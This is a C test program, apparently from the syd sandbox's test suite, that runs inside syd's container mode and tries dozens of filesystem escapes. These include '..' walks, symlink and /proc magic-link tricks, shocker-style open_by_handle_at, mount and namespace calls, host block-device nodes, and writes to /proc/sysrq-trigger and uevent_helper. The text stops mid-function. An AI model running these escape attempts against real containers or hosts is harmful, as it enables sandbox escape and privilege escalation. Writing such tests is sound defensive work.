/* attack_ns_fs: a hostile program inside syd's container form (unshare/user,mount,pid, root:DIR,
 * binds), trying to leave its filesystem view. The test (tests/namespaces_fs_attack_test.ts)
 * lays out the host side: a directory H holding OUTSIDE_MARK ("outside-secret-01\n"), the new
 * root H/root, rodir/ (bound read-only at /ro, holding `file`: "ro\n"), rwdir/ (bound at /rw),
 * and `hostsock`, a listening UNIX socket; the helpers' directory is bound at /h.
 *
 * Inside, each attack prints `NAME=stopped DETAIL` or `NAME=WON DETAIL` (DETAIL: errnos, what
 * was seen); the program exits 1 when any attack won, else 0.
 *
 *   all HOSTDIR         every attack but the race (HOSTDIR: H, as the host names it)
 *   race HOSTDIR N      N rounds of a symlink swap under open, stat and rename
 *   sys                 opens for writing under /sys and /proc/sys (uid 0 in the namespace)
 *   mknod               a block device node of the host's disk, then opened
 *   dac                 uid 0 of the namespace against files of an unmapped host user (1000) in
 *                       /rw: u1000 (0600), p1000 (0644), d1000/ (0755, holding victim), and
 *                       mine0 (its own): syd acts as the host's root, the kernel would refuse
 *   nosymfollow         links in /rw (a bind: nosymfollow) to a file in the root: the kernel
 *                       refuses to follow them (ELOOP)
 *   execrace N          N execs of /race/e/id while /race/e swaps between a directory holding a
 *                       copy of `true` named id and a link to /usr/bin (/usr/bin/id: denied by
 *                       the test's policy); a run of the real id prints `uid=`
 *   pids MAX            /proc/N and /proc/N/root/.. for every N up to MAX, and what /proc lists:
 *                       only the namespace's own processes (the command is 2, init hidden)
 *   suid                a copy of `true` in /rw (a host directory) made set-user-ID: owned by
 *                       the host's root, it would give root to whoever runs it on the host
 *   unixrace HOSTDIR N  N binds of /race/d/usockI while /race/d swaps between a directory and
 *                       links out of the root (the host looks for usock outside)
 *   ids                 the owner stat, statx and fstat show of p1000 (the kernel: 65534)
 *
 * A directory is "outside" when OUTSIDE_MARK, rodir/file or work/ is found in it (H, the host's
 * root); a file is "outside" when it reads "outside-secret".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static int won_any = 0;

static void verdict(const char *name, int won, const char *fmt, ...)
    __attribute__((format(printf, 3, 4)));
#include <stdarg.h>
static void verdict(const char *name, int won, const char *fmt, ...) {
  char detail[512];
  va_list ap;
  va_start(ap, fmt);
  vsnprintf(detail, sizeof detail, fmt, ap);
  va_end(ap);
  printf("%s=%s %s\n", name, won ? "WON" : "stopped", detail);
  fflush(stdout);
  if (won) won_any = 1;
}

/* Whether the directory `fd` is the host's H or the host's root. */
static int outside_dir(int fd) {
  struct stat st;
  if (fd < 0) return 0;
  if (fstatat(fd, "OUTSIDE_MARK", &st, AT_SYMLINK_NOFOLLOW) == 0) return 1;
  if (fstatat(fd, "rodir/file", &st, AT_SYMLINK_NOFOLLOW) == 0) return 1;
  if (fstatat(fd, "work", &st, AT_SYMLINK_NOFOLLOW) == 0) return 1;
  return 0;
}

/* Whether the file `fd` is OUTSIDE_MARK. */
static int outside_file(int fd) {
  char buf[64] = {0};
  if (fd < 0) return 0;
  if (pread(fd, buf, sizeof buf - 1, 0) <= 0) return 0;
  return strncmp(buf, "outside-secret", 14) == 0;
}

/* Opens `path` as a directory (O_PATH) and asks whether it is outside; closes it. */
static int dir_attack(const char *name, int dirfd, const char *path) {
  int fd = openat(dirfd, path, O_PATH | O_DIRECTORY | O_CLOEXEC);
  int err = fd < 0 ? errno : 0;
  int won = outside_dir(fd);
  verdict(name, won, "open=%d", err);
  if (fd >= 0) close(fd);
  return won;
}

/* Opens `path` for reading and asks whether it is OUTSIDE_MARK. */
static int file_attack(const char *name, int dirfd, const char *path) {
  int fd = openat(dirfd, path, O_RDONLY | O_CLOEXEC);
  int err = fd < 0 ? errno : 0;
  int won = outside_file(fd);
  verdict(name, won, "open=%d", err);
  if (fd >= 0) close(fd);
  return won;
}

static int err_of(long rc) { return rc < 0 ? errno : 0; }

/* ---- inherited fds: whatever syd left open at exec */
static void inherited(void) {
  DIR *d = opendir("/proc/self/fd");
  if (d == NULL) {
    verdict("inherited_fds", 0, "opendir=%d", errno);
    return;
  }
  int own = dirfd(d);
  char list[256] = "";
  int won = 0;
  struct dirent *e;
  while ((e = readdir(d)) != NULL) {
    if (e->d_name[0] == '.') continue;
    int fd = atoi(e->d_name);
    if (fd == own) continue;
    char link[64], target[256] = "";
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, target, sizeof target - 1);
    if (n > 0) target[n] = 0;
    if (fd > 2) {
      char item[300];
      snprintf(item, sizeof item, "%d:%s,", fd, target);
      strncat(list, item, sizeof list - strlen(list) - 1);
      /* Any fd beyond stdio is a leak; a directory or file outside is an escape. */
      int up = openat(fd, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
      if (outside_dir(fd) || outside_dir(up) || outside_file(fd)) won = 1;
      if (up >= 0) close(up);
      won = 1;
    }
  }
  closedir(d);
  verdict("inherited_fds", won, "extra=[%s]", list);
}

/* ---- `..` from the root, from fds, from the cwd */
static void dotdot(void) {
  dir_attack("dotdot_root", AT_FDCWD, "/../../../..");
  file_attack("dotdot_root_file", AT_FDCWD, "/../OUTSIDE_MARK");
  file_attack("dotdot_root_file2", AT_FDCWD, "/../../../../OUTSIDE_MARK");
  int rw = open("/rw", O_PATH | O_DIRECTORY | O_CLOEXEC);
  dir_attack("dotdot_fd_bind", rw, "../../..");
  file_attack("dotdot_fd_bind_file", rw, "../../OUTSIDE_MARK");
  file_attack("dotdot_fd_bind_file2", rw, "../OUTSIDE_MARK");
  int rfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  dir_attack("dotdot_fd_root", rfd, "..");
  /* chdir up past the root, then relative names */
  int c1 = err_of(chdir("/rw"));
  for (int i = 0; i < 8; i++) chdir("..");
  char cwd[256] = "";
  if (getcwd(cwd, sizeof cwd) == NULL) snprintf(cwd, sizeof cwd, "getcwd=%d", errno);
  int here = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
  int won = outside_dir(here);
  verdict("chdir_dotdot", won, "chdir=%d cwd=%s", c1, cwd);
  if (here >= 0) close(here);
  file_attack("chdir_dotdot_file", AT_FDCWD, "../OUTSIDE_MARK");
  /* fchdir to an fd of a bind, then up */
  chdir("/tmp");
  int f1 = err_of(fchdir(rw));
  int c2 = err_of(chdir("../../../.."));
  here = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
  won = outside_dir(here);
  verdict("fchdir_dotdot", won, "fchdir=%d chdir=%d", f1, c2);
  if (here >= 0) close(here);
  /* fchdir to an O_PATH fd of the root, then `..` */
  int f2 = err_of(fchdir(rfd));
  dir_attack("fchdir_root_dotdot", AT_FDCWD, "..");
  (void)f2;
  chdir("/");
  close(rw);
  close(rfd);
}

/* ---- symlinks planted in the root, a tmpfs bind and a host directory bind */
static void links(const char *host) {
  const char *dirs[] = {"/", "/tmp/", "/rw/"};
  const char *tags[] = {"root", "tmpfs", "hostbind"};
  char abs_host[512], abs_mark[600];
  snprintf(abs_host, sizeof abs_host, "%s", host);
  snprintf(abs_mark, sizeof abs_mark, "%s/OUTSIDE_MARK", host);
  for (int i = 0; i < 3; i++) {
    struct {
      const char *suffix;
      const char *target;
      int dir;
    } plant[] = {
        {"l_dotdot", "../../../../OUTSIDE_MARK", 0},
        {"l_absdotdot", "/../../OUTSIDE_MARK", 0},
        {"l_hostmark", abs_mark, 0},
        {"d_dotdot", "../../../..", 1},
        {"d_host", abs_host, 1},
        {"d_procroot", "/proc/self/root/..", 1},
        {"d_proc1root", "/proc/1/root/../..", 1},
        {"d_proccwd", "/proc/self/cwd/../../..", 1},
    };
    for (size_t j = 0; j < sizeof plant / sizeof plant[0]; j++) {
      char path[256], name[128];
      snprintf(path, sizeof path, "%s%s", dirs[i], plant[j].suffix);
      unlink(path);
      int s = err_of(symlink(plant[j].target, path));
      snprintf(name, sizeof name, "link_%s_%s", tags[i], plant[j].suffix);
      int fd = plant[j].dir ? open(path, O_PATH | O_DIRECTORY | O_CLOEXEC)
                            : open(path, O_RDONLY | O_CLOEXEC);
      int err = fd < 0 ? errno : 0;
      int won = plant[j].dir ? outside_dir(fd) : outside_file(fd);
      /* through the link as a directory component too */
      char via[300];
      snprintf(via, sizeof via, "%s/OUTSIDE_MARK", path);
      int fd2 = open(via, O_RDONLY | O_CLOEXEC);
      int err2 = fd2 < 0 ? errno : 0;
      if (plant[j].dir && outside_file(fd2)) won = 1;
      struct stat st;
      int err3 = err_of(stat(via, &st));
      if (plant[j].dir && err3 == 0 && st.st_size == 18) won = 1;
      verdict(name, won, "symlink=%d open=%d via=%d stat=%d", s, err, err2, err3);
      if (fd >= 0) close(fd);
      if (fd2 >= 0) close(fd2);
    }
  }
}

/* ---- /proc magic links */
static void magic(void) {
  char buf[256];
  ssize_t n = readlink("/proc/self/root", buf, sizeof buf - 1);
  buf[n > 0 ? n : 0] = 0;
  verdict("proc_self_root_name", n > 0 && strcmp(buf, "/") != 0, "root=%s", buf);
  dir_attack("proc_self_root_dotdot", AT_FDCWD, "/proc/self/root/..");
  dir_attack("proc_self_root_dotdot2", AT_FDCWD, "/proc/self/root/../../..");
  dir_attack("proc_self_cwd_dotdot", AT_FDCWD, "/proc/self/cwd/../../..");
  dir_attack("proc_1_root", AT_FDCWD, "/proc/1/root/");
  dir_attack("proc_1_root_dotdot", AT_FDCWD, "/proc/1/root/..");
  dir_attack("proc_1_cwd", AT_FDCWD, "/proc/1/cwd");
  dir_attack("proc_2_root_dotdot", AT_FDCWD, "/proc/2/root/..");
  file_attack("proc_thread_self_root", AT_FDCWD, "/proc/thread-self/root/../OUTSIDE_MARK");
  int rw = open("/rw", O_PATH | O_DIRECTORY | O_CLOEXEC);
  char p[64];
  snprintf(p, sizeof p, "/proc/self/fd/%d/../..", rw);
  dir_attack("proc_fd_dotdot", AT_FDCWD, p);
  snprintf(p, sizeof p, "/proc/self/fd/%d/../OUTSIDE_MARK", rw);
  file_attack("proc_fd_dotdot_file", AT_FDCWD, p);
  close(rw);
  /* /proc/self/fd/N of the root fd, reopened */
  int r = open("/", O_PATH | O_CLOEXEC);
  snprintf(p, sizeof p, "/proc/self/fd/%d/..", r);
  dir_attack("proc_fd_root_dotdot", AT_FDCWD, p);
  close(r);
  /* exe: the helper, through /h: is its name inside? */
  n = readlink("/proc/self/exe", buf, sizeof buf - 1);
  buf[n > 0 ? n : 0] = 0;
  verdict("proc_self_exe_name", strncmp(buf, "/h/", 3) != 0, "exe=%s", buf);
  dir_attack("proc_self_exe_dotdot", AT_FDCWD, "/proc/self/exe/../..");
  /* the namespaces' own /proc: mountinfo names only the new root's mounts? */
  int mi = open("/proc/self/mountinfo", O_RDONLY | O_CLOEXEC);
  char info[8192] = "";
  if (mi >= 0) {
    ssize_t m = read(mi, info, sizeof info - 1);
    info[m > 0 ? m : 0] = 0;
    close(mi);
  }
  verdict("proc_mountinfo", strstr(info, " /work ") != NULL, "has_work=%d",
          strstr(info, " /work ") != NULL);
}

/* ---- openat2 and its RESOLVE flags */
static long o2(int dirfd, const char *path, uint64_t flags, uint64_t resolve) {
  struct open_how how = {.flags = flags | O_CLOEXEC, .mode = 0, .resolve = resolve};
  return syscall(SYS_openat2, dirfd, path, &how, sizeof how);
}

static void openat2s(void) {
  int root = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
  int rw = open("/rw", O_PATH | O_DIRECTORY | O_CLOEXEC);
  struct {
    const char *name;
    int dirfd;
    const char *path;
    uint64_t resolve;
    int dir;
  } tries[] = {
      {"openat2_plain_dotdot", AT_FDCWD, "/../..", 0, 1},
      {"openat2_in_root_dotdot", root, "../..", RESOLVE_IN_ROOT, 1},
      {"openat2_beneath_dotdot", rw, "../OUTSIDE_MARK", RESOLVE_BENEATH, 0},
      {"openat2_in_root_mark", rw, "/../OUTSIDE_MARK", RESOLVE_IN_ROOT, 0},
      {"openat2_proc_root", AT_FDCWD, "/proc/self/root/..", 0, 1},
      {"openat2_proc_root_nomagic", AT_FDCWD, "/proc/self/root/..", RESOLVE_NO_MAGICLINKS, 1},
      {"openat2_xdev", root, "rw/../..", RESOLVE_NO_XDEV, 1},
      {"openat2_cached_dotdot", AT_FDCWD, "/../OUTSIDE_MARK", RESOLVE_CACHED, 0},
      {"openat2_link_root", AT_FDCWD, "/d_dotdot/OUTSIDE_MARK", 0, 0},
      {"openat2_link_in_root", root, "d_host/OUTSIDE_MARK", RESOLVE_IN_ROOT, 0},
  };
  for (size_t i = 0; i < sizeof tries / sizeof tries[0]; i++) {
    long fd = o2(tries[i].dirfd, tries[i].path, tries[i].dir ? O_PATH | O_DIRECTORY : O_RDONLY,
                 tries[i].resolve);
    int err = fd < 0 ? errno : 0;
    int won = tries[i].dir ? outside_dir((int)fd) : outside_file((int)fd);
    verdict(tries[i].name, won, "open=%d", err);
    if (fd >= 0) close((int)fd);
  }
  close(root);
  close(rw);
}

/* ---- changes across mounts, out of the root, through the read-only bind */
static void changes(void) {
  int fd = open("/rw/mine", O_CREAT | O_WRONLY | O_TRUNC | O_CLOEXEC, 0644);
  if (fd >= 0) {
    write(fd, "mine\n", 5);
    close(fd);
  }
  struct {
    const char *name;
    long rc;
  } r[32];
  int k = 0;
#define TRY(N, CALL)          \
  do {                        \
    r[k].name = N;            \
    errno = 0;                \
    r[k].rc = (long)(CALL);   \
    r[k].rc = err_of(r[k].rc); \
    k++;                      \
  } while (0)
  TRY("rename_rw_to_ro", rename("/rw/mine", "/ro/mine"));
  TRY("rename_ro_to_rw", rename("/ro/file", "/rw/stolen"));
  TRY("rename_ro_in_ro", rename("/ro/file", "/ro/file2"));
  TRY("rename_out_of_root", rename("/rw/mine", "/../../moved_out"));
  TRY("rename_mark_in", rename("/../OUTSIDE_MARK", "/rw/mark"));
  TRY("link_ro_to_rw", link("/ro/file", "/rw/hard"));
  TRY("link_rw_to_ro", link("/rw/mine", "/ro/hard"));
  TRY("link_mark_in", link("/../OUTSIDE_MARK", "/rw/mark2"));
  TRY("symlink_in_ro", symlink("/x", "/ro/sym"));
  TRY("mknod_fifo_ro", mknod("/ro/fifo", S_IFIFO | 0600, 0));
  TRY("mkdir_ro", mkdir("/ro/dir", 0700));
  TRY("unlink_ro", unlink("/ro/file"));
  TRY("unlink_mark", unlink("/../OUTSIDE_MARK"));
  TRY("open_ro_rdwr", open("/ro/file", O_RDWR | O_CLOEXEC));
  TRY("open_ro_creat", open("/ro/new", O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
  TRY("open_ro_trunc", open("/ro/file", O_WRONLY | O_TRUNC | O_CLOEXEC));
  TRY("truncate_ro", truncate("/ro/file", 0));
  TRY("chmod_ro", chmod("/ro/file", 0777));
  TRY("chown_ro", chown("/ro/file", 1, 1));
  TRY("utimes_ro", utimes("/ro/file", NULL));
  TRY("setxattr_ro", setxattr("/ro/file", "user.x", "1", 1, 0));
  int opath = open("/ro/file", O_PATH | O_CLOEXEC);
  char p[64];
  snprintf(p, sizeof p, "/proc/self/fd/%d", opath);
  TRY("reopen_opath_rdwr", open(p, O_RDWR | O_CLOEXEC));
  TRY("linkat_empty_path", linkat(opath, "", AT_FDCWD, "/rw/hard2", AT_EMPTY_PATH));
  TRY("linkat_proc_fd", linkat(AT_FDCWD, p, AT_FDCWD, "/rw/hard3", AT_SYMLINK_FOLLOW));
  TRY("fchmodat_empty", syscall(452 /* fchmodat2 */, opath, "", 0777, AT_EMPTY_PATH));
  TRY("fchownat_empty", fchownat(opath, "", 1, 1, AT_EMPTY_PATH));
  int rfd = open("/ro", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  TRY("renameat_ro_fd", renameat(rfd, "file", rfd, "file3"));
  TRY("unlinkat_ro_fd", unlinkat(rfd, "file", 0));
  TRY("openat_ro_fd_creat", openat(rfd, "new2", O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
  TRY("mknod_outside", mknod("/../fifo_out", S_IFIFO | 0600, 0));
  TRY("symlink_outside", symlink("x", "/../../sym_out"));
#undef TRY
  for (int i = 0; i < k; i++) {
    /* Only a refusal of a cross-mount or read-only change counts as stopped; `..` names that
     * stay in the root may succeed: the host side checks where they landed. */
    int allowed_inside = strcmp(r[i].name, "rename_out_of_root") == 0 ||
                         strcmp(r[i].name, "mknod_outside") == 0 ||
                         strcmp(r[i].name, "symlink_outside") == 0;
    int won = r[i].rc == 0 && !allowed_inside;
    if (strcmp(r[i].name, "fchmodat_empty") == 0 && r[i].rc == 0) won = 1;
    verdict(r[i].name, won, "errno=%ld", r[i].rc);
  }
  /* what /ro/file now holds */
  char buf[16] = "";
  int f = open("/ro/file", O_RDONLY | O_CLOEXEC);
  if (f >= 0) {
    read(f, buf, sizeof buf - 1);
    close(f);
  }
  verdict("ro_file_intact", strcmp(buf, "ro\n") != 0, "content_ok=%d", strcmp(buf, "ro\n") == 0);
  if (opath >= 0) close(opath);
  if (rfd >= 0) close(rfd);
}

/* ---- UNIX sockets at paths: syd binds and connects for the sandbox */
static void unixes(void) {
  const char *binds[] = {"/rw/s_rw", "/tmp/s_tmp", "/s_root", "/../../s_dotdot", "/ro/s_ro",
                         "/d_dotdot/s_link"};
  char out[512] = "";
  for (size_t i = 0; i < sizeof binds / sizeof binds[0]; i++) {
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    snprintf(a.sun_path, sizeof a.sun_path, "%s", binds[i]);
    int e = err_of(bind(s, (struct sockaddr *)&a, sizeof a));
    char item[64];
    snprintf(item, sizeof item, "%s:%d,", binds[i], e);
    strncat(out, item, sizeof out - strlen(out) - 1);
    if (strcmp(binds[i], "/ro/s_ro") == 0 && e == 0) won_any = 1, printf("unix_bind_ro=WON\n");
    close(s);
  }
  verdict("unix_bind", 0, "%s", out);
  /* connect to the host's socket outside the root, by every route */
  const char *conns[] = {"/../hostsock", "/../../../hostsock", "/d_dotdot/hostsock",
                         "/rw/d_dotdot/hostsock", "/proc/self/root/../hostsock",
                         "/d_host/hostsock"};
  for (size_t i = 0; i < sizeof conns / sizeof conns[0]; i++) {
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    snprintf(a.sun_path, sizeof a.sun_path, "%s", conns[i]);
    int e = err_of(connect(s, (struct sockaddr *)&a, sizeof a));
    char name[64];
    snprintf(name, sizeof name, "unix_connect_%zu", i);
    verdict(name, e == 0, "path=%s connect=%d", conns[i], e);
    close(s);
  }
  /* the socket bound in the root: can the sandbox itself connect to it (it is inside)? */
  int l = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  snprintf(a.sun_path, sizeof a.sun_path, "/rw/s_live");
  int b = err_of(bind(l, (struct sockaddr *)&a, sizeof a));
  listen(l, 1);
  int c = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  int e = err_of(connect(c, (struct sockaddr *)&a, sizeof a));
  struct stat st;
  int se = err_of(stat("/rw/s_live", &st));
  verdict("unix_roundtrip", 0, "bind=%d connect=%d stat=%d sock=%d", b, e, se,
          se == 0 && S_ISSOCK(st.st_mode));
  close(c);
  close(l);
}

/* ---- exec of a host binary by a path that resolves differently in syd's view */
static void execs(const char *host) {
  struct {
    const char *name;
    char path[512];
  } t[6];
  int n = 0;
  snprintf(t[n].path, sizeof t[n].path, "%s/hostonly", host), t[n++].name = "exec_host_path";
  snprintf(t[n].path, sizeof t[n].path, "/../hostonly"), t[n++].name = "exec_dotdot";
  snprintf(t[n].path, sizeof t[n].path, "/d_dotdot/hostonly"), t[n++].name = "exec_link";
  snprintf(t[n].path, sizeof t[n].path, "/d_host/hostonly"), t[n++].name = "exec_abs_link";
  snprintf(t[n].path, sizeof t[n].path, "/proc/self/root/../hostonly"),
      t[n++].name = "exec_proc_root";
  snprintf(t[n].path, sizeof t[n].path, "/proc/1/root/../hostonly"), t[n++].name = "exec_proc_1";
  for (int i = 0; i < n; i++) {
    int pipefd[2];
    pipe2(pipefd, O_CLOEXEC);
    pid_t pid = fork();
    if (pid == 0) {
      dup2(pipefd[1], 1);
      char *argv[] = {t[i].path, NULL};
      execv(t[i].path, argv);
      _exit(100 + errno);
    }
    close(pipefd[1]);
    char buf[64] = "";
    read(pipefd[0], buf, sizeof buf - 1);
    close(pipefd[0]);
    int status = 0;
    waitpid(pid, &status, 0);
    int ran = strstr(buf, "hostonly-ran") != NULL;
    verdict(t[i].name, ran, "status=%d errno=%d", status,
            WIFEXITED(status) ? WEXITSTATUS(status) - 100 : -WTERMSIG(status));
  }
  /* execveat of an fd opened beneath the root through a link out of it */
  int fd = open("/d_dotdot/hostonly", O_PATH | O_CLOEXEC);
  verdict("exec_fd_open", fd >= 0, "open=%d", fd < 0 ? errno : 0);
}

/* ---- file handles: open_by_handle_at of the bind's filesystem root inode (shocker) */
static void handles(void) {
  struct {
    struct file_handle h;
    unsigned char bytes[128];
  } own;
  own.h.handle_bytes = 128;
  int mnt = -1;
  int e = err_of(name_to_handle_at(AT_FDCWD, "/rw", &own.h, &mnt, 0));
  verdict("name_to_handle_at", 0, "errno=%d", e);
  int mfd = open("/rw", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  struct {
    struct file_handle h;
    unsigned int ino_gen[2];
  } root = {.h = {.handle_bytes = 8, .handle_type = 1 /* FILEID_INO32_GEN */}, .ino_gen = {2, 0}};
  int fd = open_by_handle_at(mfd, &root.h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  e = fd < 0 ? errno : 0;
  verdict("open_by_handle_at", fd >= 0, "errno=%d", e);
  if (fd >= 0) close(fd);
  close(mfd);
}

/* ---- the mount API, pivot_root, namespaces: each in a child (a kill is an answer) */
static void mounts(void) {
  struct {
    const char *name;
    int which;
  } t[] = {
      {"mount_tmpfs", 0},      {"remount_ro_bind_rw", 1}, {"umount_ro", 2},
      {"umount_root", 3},      {"pivot_root", 4},         {"unshare_ns", 5},
      {"unshare_user_ns", 6},  {"setns_1_mnt", 7},        {"open_tree", 8},
      {"move_mount", 9},       {"fsopen", 10},            {"fspick", 11},
      {"mount_setattr_rw", 12}, {"chroot_dotdot", 13},    {"mount_bind_host", 14},
      {"clone_newns", 15},     {"clone3_newns", 16},
  };
  for (size_t i = 0; i < sizeof t / sizeof t[0]; i++) {
    int pipefd[2];
    pipe2(pipefd, O_CLOEXEC);
    pid_t pid = fork();
    if (pid == 0) {
      long rc = -1;
      switch (t[i].which) {
        case 0: rc = mount("tmpfs", "/rw", "tmpfs", 0, NULL); break;
        case 1: rc = mount(NULL, "/ro", NULL, MS_REMOUNT | MS_BIND, NULL); break;
        case 2: rc = umount2("/ro", MNT_DETACH); break;
        case 3: rc = umount2("/", MNT_DETACH); break;
        case 4: rc = syscall(SYS_pivot_root, "/rw", "/rw"); break;
        case 5: rc = unshare(CLONE_NEWNS); break;
        case 6: rc = unshare(CLONE_NEWUSER); break;
        case 7: {
          int ns = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);
          if (ns < 0) ns = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
          rc = syscall(SYS_setns, ns, 0);
          break;
        }
        case 8: rc = syscall(SYS_open_tree, AT_FDCWD, "/ro", 1 /* OPEN_TREE_CLONE */); break;
        case 9: rc = syscall(SYS_move_mount, AT_FDCWD, "/ro", AT_FDCWD, "/rw", 0); break;
        case 10: rc = syscall(SYS_fsopen, "tmpfs", 0); break;
        case 11: rc = syscall(SYS_fspick, AT_FDCWD, "/ro", 0); break;
        case 12: {
          struct {
            uint64_t set, clr, prop, userns;
          } attr = {0, 1 /* MOUNT_ATTR_RDONLY */, 0, 0};
          rc = syscall(SYS_mount_setattr, AT_FDCWD, "/ro", 0, &attr, sizeof attr);
          break;
        }
        case 13: {
          mkdir("/rw/jail", 0700);
          rc = chroot("/rw/jail");
          if (rc == 0) {
            for (int j = 0; j < 8; j++) chdir("..");
            int here = open(".", O_PATH | O_DIRECTORY);
            if (outside_dir(here)) rc = 0;
            else rc = -2;
          }
          break;
        }
        case 14: rc = mount("/..", "/rw", NULL, MS_BIND, NULL); break;
        case 15:
        case 16: {
          /* a child in new user and mount namespaces: it could mount over the container */
          uint64_t flags = CLONE_NEWUSER | CLONE_NEWNS;
          if (t[i].which == 15) {
            rc = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
          } else {
            uint64_t args[11] = {flags, 0, 0, 0, SIGCHLD, 0, 0, 0, 0, 0, 0};
            rc = syscall(SYS_clone3, args, sizeof args);
          }
          if (rc == 0) _exit(0);
          if (rc > 0) {
            waitpid((pid_t)rc, NULL, 0);
            rc = 0;
          }
          break;
        }
      }
      int e = rc == -1 ? errno : (rc == -2 ? -2 : 0);
      write(pipefd[1], &e, sizeof e);
      _exit(0);
    }
    close(pipefd[1]);
    int e = 12345;
    ssize_t got = read(pipefd[0], &e, sizeof e);
    close(pipefd[0]);
    int status = 0;
    waitpid(pid, &status, 0);
    if (got != sizeof e) {
      verdict(t[i].name, 0, "killed=%d", WIFSIGNALED(status) ? WTERMSIG(status) : -1);
    } else {
      /* chroot in the userns (CAP_SYS_CHROOT there) is no escape by itself; the walk is. */
      int won = e == 0;
      if (t[i].which == 13) won = e == 0;
      verdict(t[i].name, won, "errno=%d", e);
    }
  }
}

/* ---- writes to /sys and /proc/sys as uid 0 in the namespace: opened, never written */
static void syswrites(void) {
  const char *paths[] = {"/proc/sys/kernel/hostname", "/proc/sys/vm/drop_caches",
                         "/proc/sysrq-trigger", "/sys/kernel/mm/ksm/run",
                         "/sys/class/net/lo/mtu", "/sys/kernel/uevent_helper",
                         "/sys/fs/cgroup/cgroup.procs", "/proc/self/root/../sys/kernel/uevent_helper", "/p2/sys/kernel/hostname", "/p2/sysrq-trigger", "/p2/sys/vm/drop_caches"};
  for (size_t i = 0; i < sizeof paths / sizeof paths[0]; i++) {
    int fd = open(paths[i], O_WRONLY | O_CLOEXEC);
    int e = fd < 0 ? errno : 0;
    char name[64];
    snprintf(name, sizeof name, "syswrite_%zu", i);
    verdict(name, fd >= 0, "path=%s open=%d", paths[i], e);
    if (fd >= 0) close(fd);
  }
  uid_t u = getuid();
  printf("uid=%d\n", (int)u);
}

/* ---- a block device node of the host's disk (root's device), opened */
static void mknods(void) {
  struct stat st;
  stat("/", &st);
  dev_t dev = st.st_dev;
  int m = err_of(mknod("/blk", S_IFBLK | 0600, dev));
  int fd = open("/blk", O_RDONLY | O_CLOEXEC);
  int e = fd < 0 ? errno : 0;
  verdict("mknod_blk_open", fd >= 0, "mknod=%d open=%d dev=%u:%u", m, e, major(dev), minor(dev));
  if (fd >= 0) close(fd);
  unlink("/blk");
}

/* ---- uid 0 of the namespace against an unmapped host user's files */
static void dacs(void) {
  struct {
    const char *name;
    long rc;
  } r[24];
  int k = 0;
  struct timespec ts[2] = {{0, 0}, {0, 0}};
#define TRY(N, CALL)           \
  do {                         \
    r[k].name = N;             \
    errno = 0;                 \
    r[k].rc = (long)(CALL);    \
    r[k].rc = err_of(r[k].rc); \
    k++;                       \
  } while (0)
  TRY("dac_read_private", open("/rw/u1000", O_RDONLY | O_CLOEXEC));
  TRY("dac_access_private", access("/rw/u1000", R_OK));
  TRY("dac_write_public", open("/rw/p1000", O_WRONLY | O_CLOEXEC));
  TRY("dac_truncate", truncate("/rw/p1000", 0));
  TRY("dac_utimens", utimensat(AT_FDCWD, "/rw/p1000", ts, 0));
  TRY("dac_chmod", chmod("/rw/p1000", 0666));
  TRY("dac_chown", chown("/rw/p1000", 0, 0));
  TRY("dac_setxattr", setxattr("/rw/p1000", "user.x", "1", 1, 0));
  TRY("dac_create", open("/rw/d1000/new", O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
  TRY("dac_mkfifo", mknod("/rw/d1000/fifo", S_IFIFO | 0600, 0));
  TRY("dac_symlink", symlink("x", "/rw/d1000/sym"));
  TRY("dac_mkdir", mkdir("/rw/d1000/dir", 0700));
  TRY("dac_link", link("/rw/mine0", "/rw/d1000/hard"));
  TRY("dac_rename_in", rename("/rw/mine0", "/rw/d1000/moved"));
  TRY("dac_rename_out", rename("/rw/d1000/victim", "/rw/got"));
  TRY("dac_unlink", unlink("/rw/d1000/victim"));
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  snprintf(a.sun_path, sizeof a.sun_path, "/rw/d1000/sock");
  TRY("dac_unix_bind", bind(s, (struct sockaddr *)&a, sizeof a));
#undef TRY
  for (int i = 0; i < k; i++) verdict(r[i].name, r[i].rc == 0, "errno=%ld", r[i].rc);
  close(s);
}

/* ---- the owner of an unmapped user's file, as the namespace shows it */
static void idents(void) {
  struct stat st;
  int e = err_of(stat("/rw/p1000", &st));
  verdict("ids_stat", e == 0 && st.st_uid != 65534, "errno=%d uid=%u gid=%u", e, st.st_uid,
          st.st_gid);
  struct statx sx;
  e = err_of(statx(AT_FDCWD, "/rw/p1000", 0, STATX_BASIC_STATS, &sx));
  verdict("ids_statx", e == 0 && sx.stx_uid != 65534, "errno=%d uid=%u gid=%u", e, sx.stx_uid,
          sx.stx_gid);
  int fd = open("/rw/p1000", O_RDONLY | O_CLOEXEC);
  e = err_of(fstat(fd, &st));
